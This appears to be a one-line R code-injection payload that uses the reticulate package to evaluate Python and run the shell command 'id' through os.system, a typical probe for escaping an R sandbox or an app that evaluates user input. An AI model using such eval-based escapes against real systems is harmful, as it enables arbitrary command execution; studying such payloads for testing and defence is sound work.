reticulate::import_builtins()$eval("__import__('os').system('id')")
